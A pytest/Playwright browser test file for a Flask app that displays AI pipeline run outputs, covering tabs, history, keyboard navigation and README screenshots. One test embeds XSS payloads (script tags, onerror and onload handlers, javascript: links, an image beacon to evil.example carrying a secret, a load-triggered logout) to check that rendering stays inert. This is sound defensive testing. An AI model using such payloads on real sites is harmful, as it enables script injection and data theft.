"""A run's page in a real browser: tabs without reloads, history, keyboard, hostile output, screenshots."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from artifacts_app.models import PipelineRun, User
from tests.browser.conftest import LiveServer, PageWatch
from tests.browser.test_list_browser import sign_in
from tests.factories import make_run, make_user

SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "screenshots"
CODE_STEP = """# Findings

| Option | Cost | Notes |
|---|---:|---|
| Keyset | $0.00 | stable under inserts |
| Offset | $0.00 | duplicates rows |

```python
def next_page(rows, cursor):
    \"\"\"Rows after the cursor, newest first.\"\"\"
    return [row for row in rows if (row.completed_at, row.id) < cursor][:25]
```
"""


def steps(*outputs: str) -> list[dict[str, Any]]:
    names = ["Researcher", "Analyst", "Writer"]
    return [{"agentId": n.lower(), "agentName": n, "output": o, "stepOrder": i}
            for i, (n, o) in enumerate(zip(names, outputs))]


@pytest.fixture
def reader(app: Flask) -> User:
    return make_user("reader@example.com")


@pytest.fixture
def run(reader: User) -> PipelineRun:
    return make_run(reader, steps=steps("alpha output", CODE_STEP, "gamma output"), final_output="omega output")


def panel_text(page: Any) -> str:
    return page.locator("[role=tabpanel]:not([hidden])").inner_text()


def test_tabs_switch_without_reload_carry_the_url_and_load_once(
    watched_page: tuple[Any, PageWatch], reader: User, run: PipelineRun
) -> None:
    page, watch = watched_page
    sign_in(page, reader.email, next_path=f"/artifacts/{run.id}")
    page.evaluate("window.__marker = 'same page'")
    for number, text in ((1, "alpha output"), (2, "Findings"), (3, "gamma output")):
        page.click(f"#tab-step-{number}")
        page.wait_for_url(re.compile(rf"tab=step-{number}$"))
        page.wait_for_function(f"document.querySelector('#panel-step-{number}').innerText.includes({text!r})")
        assert text in panel_text(page)
        assert page.get_attribute(f"#tab-step-{number}", "aria-selected") == "true"
    page.click("#tab-step-1")  # visited before: shown again without a request
    page.wait_for_url(re.compile(r"tab=step-1$"))
    assert "alpha output" in panel_text(page)
    assert page.evaluate("window.__marker") == "same page"
    tab_requests = [url for method, url, headers in watch.requests if "tab=step-1" in url]
    assert len(tab_requests) == 1, tab_requests
    page.go_back()  # back to step 3
    page.wait_for_url(re.compile(r"tab=step-3$"))
    page.wait_for_function("document.querySelector('#tab-step-3').getAttribute('aria-selected') === 'true'")
    assert "gamma output" in panel_text(page)
    assert page.evaluate("window.__marker") == "same page"


def test_a_reload_on_a_tab_url_opens_that_tab_and_arrows_move(
    watched_page: tuple[Any, PageWatch], reader: User, run: PipelineRun
) -> None:
    page, _ = watched_page
    sign_in(page, reader.email, next_path=f"/artifacts/{run.id}?tab=step-2")
    page.reload()
    assert page.get_attribute("#tab-step-2", "aria-selected") == "true"
    assert "Findings" in panel_text(page)
    page.focus("#tab-step-2")
    page.keyboard.press("ArrowRight")
    page.wait_for_url(re.compile(r"tab=step-3$"))
    assert page.evaluate("document.activeElement.id") == "tab-step-3"
    page.keyboard.press("Home")
    page.wait_for_url(re.compile(r"tab=final$"))
    page.keyboard.press("ArrowLeft")  # wraps to the last tab
    page.wait_for_url(re.compile(r"tab=step-3$"))
    page.keyboard.press("End")
    assert page.evaluate("document.activeElement.id") == "tab-step-3"


def test_hostile_output_does_nothing(watched_page: tuple[Any, PageWatch], reader: User) -> None:
    page, watch = watched_page
    hostile = "\n\n".join([
        "<script>window.__pwned = 'script'</script>",
        "<img src=x onerror=\"window.__pwned='onerror'\">",
        "<svg onload=\"window.__pwned='svg'\"></svg>",
        "[click me](javascript:window.__pwned='link')",
        '<a href="javascript:window.__pwned=1">raw link</a>',
        "![leak](https://evil.example/collect?secret=1)",
        '<div hx-get="/logout" hx-trigger="load">htmx attack</div>',
        "<form action=https://evil.example><button id=evil-submit>go</button></form>",
        "<textarea>unclosed",
    ])
    run = make_run(reader, steps=steps(hostile), final_output=hostile)
    page.on("dialog", lambda dialog: watch.console_errors.append(f"dialog: {dialog.message}"))
    sign_in(page, reader.email, next_path=f"/artifacts/{run.id}")
    page.click("#tab-step-1")
    page.wait_for_url(re.compile(r"tab=step-1$"))
    page.wait_for_timeout(300)
    for link in page.locator("[role=tabpanel]:not([hidden]) .markdown a").all():
        link.click(modifiers=["Control"], no_wait_after=True)  # a click must not run script
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#evil-submit").count() == 0
    assert "Sign out" in page.content()  # the hx-get="/logout" did nothing
    assert not watch.foreign_requests
    assert page.locator("text=Download all").count() == 1  # the unclosed tag swallowed nothing


def test_raw_view_and_without_javascript_tabs_are_links(
    browser: Any, live_server: LiveServer, watched_page: tuple[Any, PageWatch], reader: User, run: PipelineRun
) -> None:
    page, _ = watched_page
    sign_in(page, reader.email, next_path=f"/artifacts/{run.id}?tab=step-2")
    page.check("#view-step-2-raw")
    raw = page.locator("#view-step-2-source")
    assert raw.is_visible() and "```python" in raw.inner_text()
    assert not page.locator("[role=tabpanel]:not([hidden]) .markdown").is_visible()
    context = browser.new_context(base_url=live_server.url, java_script_enabled=False)
    try:
        plain = context.new_page()
        sign_in(plain, reader.email, next_path=f"/artifacts/{run.id}")
        plain.click("#tab-step-3")
        plain.wait_for_url(re.compile(r"tab=step-3$"))
        assert "gamma output" in plain.locator("#panel-step-3").inner_text()
    finally:
        context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_screenshots_for_the_readme(
    browser: Any, live_server: LiveServer, reader: User, run: PipelineRun, scheme: str, engine_name: str
) -> None:
    if engine_name != "sqlite":
        pytest.skip("one set of screenshots is enough")
    from artifacts_app import recording
    from artifacts_app.extensions import db
    from datetime import datetime, timedelta, timezone

    now = datetime.now(timezone.utc)
    for index, (pipeline, model) in enumerate([("Code review", "claude-sonnet-4-5-20250929"),
                                               ("Support triage", "gpt-4o-mini"), ("Release notes", "mistral-large-latest"),
                                               ("Data extraction", "gemini-2.5-flash"), ("Research brief", "llama-3.1-70b-local")] * 3):
        recording.record_from_values(reader, pipeline=pipeline, input="demo", model=model, steps=steps("a", "b"),
                             final_output="done", usage={"inputTokens": 1200 * (index + 1), "outputTokens": 310 * (index + 2)},
                             created_at=now - timedelta(hours=index, seconds=95), completed_at=now - timedelta(hours=index))
    db.session.commit()
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    context = browser.new_context(base_url=live_server.url, viewport={"width": 1280, "height": 820}, color_scheme=scheme)
    try:
        page = context.new_page()
        sign_in(page, reader.email)
        page.wait_for_selector("#totals strong")
        page.screenshot(path=str(SCREENSHOTS / f"list-{scheme}.png"))
        page.goto(f"/artifacts/{run.id}?tab=step-2")
        page.screenshot(path=str(SCREENSHOTS / f"detail-{scheme}.png"), full_page=True)
    finally:
        context.close()
    assert (SCREENSHOTS / f"list-{scheme}.png").stat().st_size > 10_000
